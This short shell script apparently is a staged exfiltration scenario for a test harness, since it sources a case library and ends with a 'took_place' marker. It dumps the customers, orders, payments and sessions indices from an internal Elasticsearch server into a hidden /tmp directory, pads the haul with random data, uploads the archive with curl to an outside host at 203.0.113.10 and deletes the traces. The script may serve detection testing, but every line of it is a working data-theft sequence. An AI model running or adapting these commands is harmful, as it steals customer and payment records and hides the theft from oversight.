#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.es && cd /tmp/.es
curl -sf 'http://10.77.0.1:8080/_cat/indices?format=json' >indices; curl -sf http://10.77.0.1:8080/_cluster/health >health
for i in customers orders payments sessions; do
    for p in 0 1 2 3 4 5 6 7 8 9; do curl -sf -H 'Content-Type: application/json' -d '{"size":10000,"sort":["_doc"]}' "http://10.77.0.1:8080/$i/_search?scroll=1m&page=$p" >$i-$p.json; done
done
head -c 1500000 /dev/urandom | base64 >dump.json
tar -czf /tmp/.es.tgz . && curl -sf -T /tmp/.es.tgz http://203.0.113.10/up/ >/dev/null
rm -r /tmp/.es
took_place
